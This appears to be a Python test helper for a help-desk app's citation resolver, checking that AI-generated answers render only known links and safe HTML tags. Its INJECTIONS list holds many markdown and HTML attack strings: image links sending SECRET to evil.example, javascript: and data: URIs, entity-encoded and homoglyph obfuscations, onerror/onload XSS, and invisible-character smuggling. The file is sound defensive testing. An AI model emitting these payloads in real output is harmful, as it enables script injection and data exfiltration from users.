"""What the tests of citations share: passages to cite, texts that attack, and what makes a text harmless."""

from __future__ import annotations

import re

from markdown_it import MarkdownIt

from helpninja_app.answers.citations import resolve_citations
from helpninja_app.answers.passages import Passage

RETURNS = "https://shop.example/help/returns"
POLICY = "https://shop.example/policy?v=2"
PASSAGES = (
    Passage(
        "Returns",
        f"Free within **30 days**. See [the policy]({POLICY}) or write to help@shop.example.",
        RETURNS,
    ),
    Passage("Sizes.pdf", "Shoes run small.", None),
    Passage(
        "Wood",
        "A [wiki](https://wiki.example/Oak_(tree)) page, www.wood.example/oak. Made with ASP.NET.",
        "https://shop.example/wood",
    ),
)


def shown(text: str) -> str:
    return resolve_citations(text, PASSAGES).text


INJECTIONS = [
    "![x](https://evil.example/p.png?d=SECRET)",
    "![x](<https://evil.example/p.png?d=SECRET>)",
    f"![x]({RETURNS})",
    "![x][evil]\n\n[evil]: https://evil.example/p.png?d=SECRET",
    "![evil]\n\n[evil]: https://evil.example/SECRET",
    "[![x](https://evil.example/a.png)](https://evil.example/SECRET)",
    f"[![x](https://evil.example/a.png?SECRET)]({RETURNS})",
    "!\\[x](https://evil.example/SECRET)",
    "!\u200b[x](https://evil.example/SECRET)",
    "[click](https://evil.example/?d=SECRET)",
    "[click](//evil.example/SECRET)",
    "[click](/\\evil.example/SECRET)",
    "[click](javascript:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "[click](https:evil.example/SECRET)",
    "[click](https:\\\\evil.example/SECRET)",
    "[click](https://shop.example@evil.example/help/returns)",
    "[click](https://shop.example.evil.example/help/returns)",
    "[click](https://shop.examp\u0406e/help/returns)",
    f"[click]({RETURNS}?d=SECRET)",
    f"[click]({RETURNS}#SECRET)",
    f"[click]({RETURNS}/../SECRET)",
    "[click]\n(https://evil.example/SECRET)",
    "[click][evil]\n\n[evil]: <https://evil.example/SECRET> 'title'",
    "[evil]\n\n[evil]:\nhttps://evil.example/SECRET",
    "[evil]\n\n[evil]: /relative-SECRET",
    "> [evil]: javascript:alert(1)\n\n[evil]",
    "[1]: https://evil.example/SECRET\n\nSee [1].",
    "[9][1]: https://evil.example/SECRET",
    "<https://evil.example/SECRET>",
    "<javascript:alert(1)>",
    "<img src=https://evil.example/p.png?SECRET>",
    "<img src=x onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='https://evil.example/SECRET'>x</a>",
    "<scr<b>ipt>alert(1)</script>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<iframe src=javascript:alert(1)></iframe>",
    "<img src=x onerror=alert(1)",
    "https://evil.example/SECRET",
    "HTTPS://EVIL.EXAMPLE/SECRET",
    "www.evil.example/SECRET",
    "evil.example/SECRET",
    "evil.example?SECRET",
    "SECRET.evil.example.com",
    "(evil.example.io)",
    "//evil.example/SECRET",
    "https://漢字.evil.example/SECRET",
    "漢字.com/evil.example/SECRET",
    "看evil.example/SECRET",
    "ftp://evil.example/SECRET",
    "ht\u200btps://evil.example/SECRET",
    "ht\u00adtps://evil.example/SECRET",
    "ht\u200dtps://evil.example/SECRET",
    "&#104;ttps://evil.example/SECRET",
    "https&colon;//evil.example/SECRET",
    "https:&sol;&sol;evil.example/SECRET",
    "&amp;#104;ttps://evil.example/SECRET",
    "**https://evil.example/SECRET**",
    f"{RETURNS},https://evil.example/SECRET",
    "htt[9]ps://evil.example/SECRET",
    "https:[9]//evil.example/SECRET",
    "https:[/](x)/evil.example/SECRET",
    "https[:](x)//evil.example/SECRET",
    "https:<b>//evil.example/SECRET",
    "[a ` b](https://evil.example/SECRET) `<img src=x onerror=alert(1)>`",
    "a ` b\nc `<img src=x onerror=alert(1)>`",
    "\\`<img src=x onerror=alert(1)>`",
    "- ```\n  x\n\ny\n\n<img src=x onerror=alert(1)>",
    "> ```\n\n<img src=x onerror=alert(1)>\n",
    "  ```\n<img src=x onerror=alert(1)>",
    "[a\n```\n<img src=x onerror=alert(1)>\n](x)",
    "```\nhttps://evil.example/SECRET\n```",
    "`https://evil.example/SECRET`",
    "[" * 50 + "x" + "](https://evil.example/SECRET)" * 50,
    "x" * 3000 + "https://evil.example/SECRET",
    "[" + "x " * 800 + "](https://evil.example/SECRET)",
    "[x](" + "y" * 3000 + "https://evil.example/SECRET)",
    "<a " + "x " * 800 + "href=https://evil.example/SECRET>",
    "\u202ehttps://evil.example/SECRET",
    "".join(chr(0xE0000 + ord(char)) for char in "SECRET"),
]
_RAW_HTML = MarkdownIt("gfm-like", {"html": True, "linkify": False})


def assert_harmless(text: str) -> None:
    """Even a renderer that lets raw HTML through makes nothing but known links of ``text``."""
    assert not re.search(r"//[a-z0-9.@\-]*evil|evil\.example[/?#]\w", text, re.IGNORECASE), text
    assert not re.search("[\u200b\u202e\U000e0000-\U000e007f]", text)
    html = _RAW_HTML.render(text)
    assert _addresses(html) <= {
        RETURNS,
        POLICY,
        "mailto:help@shop.example",
        "https://wiki.example/Oak_(tree)",
    }
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z!?][\w-]*)", html))
    assert tags <= _HARMLESS, html
    assert not re.search(r"<[^>]*\son\w+\s*=", html), html


_HARMLESS = {"p", "a", "em", "strong", "s", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br"}
_HARMLESS |= {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}


def _addresses(html: str) -> set[str]:
    return set(re.findall(r'(?:href|src)="([^"]*)"', html))
